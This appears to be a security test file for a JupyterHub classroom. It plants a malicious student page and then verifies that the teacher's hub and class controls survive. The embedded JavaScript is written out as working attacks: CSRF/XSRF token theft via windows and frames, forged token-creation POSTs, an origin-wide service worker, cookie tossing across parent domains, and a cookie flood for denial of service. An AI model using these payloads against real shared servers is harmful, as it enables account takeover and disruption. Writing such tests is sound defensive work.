"""A student's page in the teacher's browser: what it tries, and what the teacher must still be able to do.

The student makes her own Jupyter server serve her HTML as pages of her server (her ~/.jupyter config:
no sandbox on her files, `Service-Worker-Allowed: /`, and the opener policy each page needs), then gets
the teacher (a hub admin) to open ~/attack.html and ~/hub.html. They try, with every URL a student
could guess (the class's own and relative ones):
- the teacher's page in a window of its own: read its CSRF token, then pause the class with it;
- /hub/token in a frame and in a window: read its XSRF token, then make a token of the teacher's;
- blind POSTs to the hub's token API (no XSRF token);
- a service worker for the whole origin (/);
- cookies planted for /, /hub/, /services/llm/ and /services/llm/teacher/ on her host and every parent
  domain the browser lets her name (her own validly signed hub XSRF token among them);
- opened again with ?flood: as many big cookies as the browser keeps, for the hub's host to refuse the
  teacher for the size of her requests (431).
"""
import json
import pwd
import re
import subprocess

NOTE = "made by a student's page"

# The student's own server configuration: her files are pages of her server.
SERVER_CONFIG = '''
from jupyter_server.base.handlers import AuthenticatedFileHandler, JupyterHandler
from jupyter_server.files.handlers import FilesHandler

for served in (AuthenticatedFileHandler, FilesHandler):  # no sandbox on my pages
    served.content_security_policy = JupyterHandler.content_security_policy

# attack.html keeps its hold on a window it opens that sends the same Cross-Origin-Opener-Policy (the
# teacher's page does); hub.html sends none, so it keeps its hold on the hub's pages, which send none.
headers = AuthenticatedFileHandler.set_default_headers


def my_headers(self):
    headers(self)
    if self.request.path.endswith("/attack.html"):
        self.set_header("Cross-Origin-Opener-Policy", "same-origin")


AuthenticatedFileHandler.set_default_headers = my_headers
c.ServerApp.tornado_settings = {"headers": {"Service-Worker-Allowed": "/"}}  # a worker may claim "/"  # noqa: F821
'''

WORKER = '''
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", e => e.waitUntil(self.clients.claim()));
self.addEventListener("fetch", e => {
  if (e.request.mode === "navigate" && !new URL(e.request.url).pathname.startsWith("/user/")) {
    e.respondWith(new Response("<h1 id=owned>a student's worker answered</h1>", {headers: {"Content-Type": "text/html"}}));
  }
});
'''

PAGE = '''<!doctype html><meta charset="utf-8"><title>my project</title><body><p>My project</p><script>
const T = TARGETS;
const sleep = ms => new Promise(r => setTimeout(r, ms));
const R = {pages: [], hub: [], blind: [], worker: {}, planted: 0, big: 0};

async function read(get, ms) {  // what get() returns, once it returns something; else the last error
  let last = "nothing";
  for (let t = 0; t < ms; t += 250) {
    try { const v = get(); if (v) return {value: v}; } catch (e) { last = e.name + ": " + e.message; }
    await sleep(250);
  }
  return {error: last};
}

async function post(url, headers, body) {
  try {
    const r = await fetch(url, {method: "POST", credentials: "include", headers, body: JSON.stringify(body)});
    return r.status;
  } catch (e) { return e.name + ": " + e.message; }
}

async function teachersPage(url) {
  const w = window.open(url, "_blank");
  const got = await read(() => w.location.href !== "about:blank" && w.document.querySelector("meta[name=class-csrf]").content, 12000);
  const r = {url, csrf: got.value || null, error: got.error || null};
  if (got.value) {
    const at = new URL(w.location.href);
    r.pause = await post(new URL("teacher/pause", at), {"Content-Type": "application/json", "X-Class-CSRF": got.value}, {all: true});
  }
  try { w.close(); } catch (e) {}
  return r;
}

async function hubToken(url, how) {
  let win, frame;
  if (how === "frame") {
    frame = document.createElement("iframe");
    frame.src = url;
    document.body.append(frame);
    win = () => frame.contentWindow;
  } else {
    const w = window.open(url, "_blank");
    win = () => w;
  }
  const got = await read(() => {
    const w = win();
    if (w.location.href === "about:blank") return null;  // not there yet (and about:blank is her own origin)
    return (w.jhdata || {}).xsrf_token || (w.document.cookie.match(/(?:^|; )_xsrf=([^;]+)/) || [])[1];
  }, 12000);
  const r = {url, how, xsrf: got.value || null, error: got.error || null};
  if (got.value) {
    r.post = await post(new URL("/hub/api/users/" + T.teacher + "/tokens", win().location.href),
                        {"Content-Type": "application/json", "X-XSRFToken": got.value}, {note: T.note});
  }
  try { frame ? frame.remove() : win().close(); } catch (e) {}
  return r;
}

async function worker() {
  try {
    // Her server wants its XSRF token on a script's request (she reads it from her own cookie).
    const xsrf = (document.cookie.match(/(?:^|; )_xsrf=([^;]+)/) || [])[1] || "";
    const reg = await navigator.serviceWorker.register(T.worker + "?_xsrf=" + xsrf, {scope: "/"});
    const active = await Promise.race([navigator.serviceWorker.ready.then(() => true), sleep(10000).then(() => false)]);
    return {scope: reg.scope, active};
  } catch (e) { return {error: e.name + ": " + e.message}; }
}

function parents() {  // ada.class.test -> class.test, test
  const out = [];
  for (let h = location.hostname; h.includes("."); ) { h = h.slice(h.indexOf(".") + 1); out.push(h); }
  return out;
}

const secure = location.protocol === "https:" ? "; secure" : "";

function plant() {  // every cookie name of the hub's and the gateway's, on every path, host and parent domain
  const names = ["jupyterhub-hub-login", "__Host-jupyterhub-hub-login", "jupyterhub-session-id", "_xsrf",
                 "streamdemo-gateway-session", "streamdemo-gateway-oauth-state"];
  const paths = ["/", "/hub/", "/hub/api/", "/hub/api/users/", "/services/llm/", "/services/llm/teacher/"];
  for (const domain of ["", ...parents()]) {
    for (const name of names) {
      for (const path of paths) {
        // Her own hub XSRF token is validly signed: the hub must still not take it for the teacher's.
        const value = name === "_xsrf" && path.startsWith("/hub/") ? T.xsrf : "planted-by-a-student";
        document.cookie = `${name}=${value}; path=${path}${domain ? "; domain=" + domain : ""}${secure}`;
      }
    }
  }
  R.planted = document.cookie.split("; ").length;
}

function flood() {
  // As many big cookies as the browser keeps for her host and its parents: a Cookie header bigger than
  // any server takes, on every request of the teacher's to the hub or the teacher's page.
  const big = "x".repeat(3900);
  for (const domain of ["", ...parents()]) {
    for (let i = 0; i < 180; i++) {
      document.cookie = `pad${i}=${big}; path=/${domain ? "; domain=" + domain : ""}${secure}`;
    }
  }
  R.big = document.cookie.length;
}

R.origin = String(self.origin);  // "null" if her server still sandboxed her page
R.errors = [];
async function attempt(step) {
  try { await step(); } catch (e) { R.errors.push(e.name + ": " + e.message); }
}

(async () => {
  if (location.search.includes("flood")) {
    await attempt(flood);
    window.done = true;
    return;
  }
  if (location.pathname.endsWith("/hub.html")) {
    for (const url of T.hub) for (const how of ["frame", "window"]) await attempt(async () => R.hub.push(await hubToken(url, how)));
    for (const url of T.tokens) {  // no XSRF token: a form-like POST and a JSON one
      try { await fetch(url, {method: "POST", mode: "no-cors", credentials: "include", body: JSON.stringify({note: T.note})}); } catch (e) {}
      R.blind.push(await post(url, {"Content-Type": "application/json"}, {note: T.note}));
    }
    window.done = true;
    return;
  }
  for (const url of T.pages) await attempt(async () => R.pages.push(await teachersPage(url)));
  await attempt(async () => { R.worker = await worker(); });
  await attempt(plant);
  window.done = true;
})();
</script>
'''


def targets(hub, teacher_page, teacher, xsrf):
    """Every URL a student's page would try: the class's own (from what make classroom says) and relative ones;
    xsrf: her own hub XSRF token, validly signed."""
    return {"teacher": teacher, "note": NOTE, "worker": "sw.js", "xsrf": xsrf,
            "pages": [teacher_page, "/services/llm/"],
            "hub": [f"{hub}/hub/token", "/hub/token"],
            "tokens": [f"{hub}/hub/api/users/{teacher}/tokens", f"/hub/api/users/{teacher}/tokens"]}


def as_student(name, files):
    """Writes files ({path in the home: text}) as the student, the way her own shell would."""
    home = pwd.getpwnam(name).pw_dir
    for path, text in files.items():
        subprocess.run(["runuser", "-u", name, "--", "sh", "-c", 'mkdir -p "$(dirname "$1")" && cat >"$1"', "sh",
                        f"{home}/{path}"], input=text, text=True, check=True)


FILES = (".jupyter/jupyter_server_config.py", "sw.js", "attack.html", "hub.html")


def publish(name, tgt):
    """The student's pages, worker and server configuration, in her home (her server serves them once restarted)."""
    page = PAGE.replace("TARGETS", json.dumps(tgt))
    as_student(name, dict(zip(FILES, (SERVER_CONFIG, WORKER, page, page))))


def withdraw(name):
    """Removes what publish wrote, as the student."""
    home = pwd.getpwnam(name).pw_dir
    subprocess.run(["runuser", "-u", name, "--", "rm", "-f"] + [f"{home}/{f}" for f in FILES], check=True)


def open_as_teacher(page, url):
    """The teacher opens the student's page (confirming the hub's question, if it asks); returns what it got.
    With ?flood the page plants only the big cookies."""
    page.goto(url)
    if "oauth2/authorize" in page.url:
        page.click("form [type=submit]")
    try:
        page.wait_for_function("window.done === true", timeout=180_000)
    except Exception as e:
        so_far = page.evaluate("typeof R === 'undefined' ? null : R")
        raise AssertionError(f"the student's page did not finish at {page.url}: {so_far} {page.content()[:500]}") from e
    r = page.evaluate("R")
    assert r["origin"] != "null" and not r["errors"], f"the student's page did not run as hers: {r}"
    return r


def attack_all(page, url):
    """The teacher opens the student's hub.html beside url, then her attack.html at url (whose cookies come
    last): what both got."""
    hub = open_as_teacher(page, url.replace("/attack.html", "/hub.html"))
    r = open_as_teacher(page, url)
    r["hub"], r["blind"] = hub["hub"], hub["blind"]
    return r


def what_it_got(r):
    """The attacks that worked, in words (none, when the origins are apart). A hub XSRF token counts only if
    it made a token: the hub answers on her own host too, where its login page holds an anonymous one."""
    got = [f"the teacher's CSRF token from {p['url']}" + (f" and paused the class (HTTP {p['pause']})" if "pause" in p else "")
           for p in r["pages"] if p["csrf"]]
    got += [f"a token of the teacher's, with the hub's XSRF token from {h['url']} in a {h['how']} (HTTP {h['post']})"
            for h in r["hub"] if h.get("post") in (200, 201)]
    got += [f"a token of the teacher's, without an XSRF token (HTTP {status})" for status in r["blind"] if status in (200, 201)]
    return got


def teacher_still_works(page, hub, teacher_page, teacher, xsrf_may_be_shadowed=False):
    """After the student's page, in the same browser: the hub still knows the teacher and takes her XSRF
    token, the teacher's page opens with its CSRF token and its pause button works, no worker of the
    student's answers for either, and the student's page made no token of the teacher's."""
    from playwright.sync_api import expect

    r = page.goto(f"{hub}/hub/token")
    assert r.status == 200 and "/hub/login" not in page.url, f"the hub: HTTP {r.status} at {page.url}"
    assert page.locator("#owned").count() == 0 and page.evaluate("navigator.serviceWorker.controller") is None, \
        "a student's service worker answers for the hub"
    api = """async ([path, method, body]) => {
        const r = await fetch(path, {method, headers: {"X-XSRFToken": jhdata.xsrf_token, "Content-Type": "application/json"},
                                     body: body && JSON.stringify(body)});
        return [r.status, await r.text()];
    }"""
    status, said = page.evaluate(api, [f"/hub/api/users/{teacher}/tokens", "POST", {"note": "the teacher's", "expires_in": 60}])
    # Known limit: under a DNS name a student's host can plant an _xsrf cookie for the parent domain, which,
    # sent before the teacher's, makes the hub refuse her XSRF token (docs/security.md); it grants nothing.
    shadowed = xsrf_may_be_shadowed and status == 403 and "XSRF cookie does not match" in said
    assert status == 201 or shadowed, f"the hub refused the teacher's own token request: HTTP {status} {said[:200]}"
    if not shadowed:  # (shadowed, the hub takes no XSRF token of hers; what the page got is checked by what_it_got)
        status, said = page.evaluate(api, [f"/hub/api/users/{teacher}/tokens", "GET", None])
        assert status == 200, f"HTTP {status} {said[:200]}"
        notes = [t.get("note") for t in json.loads(said)["api_tokens"]]
        assert NOTE not in notes, "the student's page made a token of the teacher's"

    r = page.goto(teacher_page)
    assert r.status == 200, f"the teacher's page: HTTP {r.status} at {page.url}"
    assert page.locator("#owned").count() == 0 and page.evaluate("navigator.serviceWorker.controller") is None, \
        "a student's service worker answers for the teacher's page"
    assert page.locator("meta[name=class-csrf]").count() == 1, f"the teacher's page did not open: {page.url}"
    button, states = page.locator("#pause-all"), ["Pause everyone (exam)", "Class paused: resume everyone"]
    expect(button).to_have_text(re.compile("|".join(map(re.escape, states))), timeout=30_000)
    first = states.index(button.inner_text().strip())
    for state in (1 - first, first):  # the button switches the class, and back
        button.click()
        expect(button).to_have_text(states[state], timeout=30_000)


def after_the_flood(page, hub, teacher, password):
    """The teacher opens the hub after the student's flood of cookies: no refusal for their size (the front
    door, if any, has had the browser drop the class's cookies with one sentence, on the first request that
    carried them), and she logs in again if she has to. Returns the bytes of cookies the browser now sends
    the hub."""
    r = page.goto(f"{hub}/hub/home")
    said = f"HTTP {r.status} at {page.url}: {page.inner_text('body')[:200]!r}"
    assert r.status == 200 or (r.status == 400 and "planted" in said), f"the flooded browser got {said}"
    if r.status == 400:
        page.goto(f"{hub}/hub/home")
    if "/hub/login" in page.url:
        page.fill("#username_input", teacher)
        page.fill("#password_input", password)
        page.click("#login_submit")
        page.wait_for_url(lambda url: "/hub/login" not in url)
    return cookie_bytes(page, hub)


def cookie_bytes(page, origin):
    """The bytes of cookies the page's browser sends origin (at /hub/)."""
    return sum(len(c["name"]) + len(c["value"]) + 2 for c in page.context.cookies([f"{origin}/hub/"]))
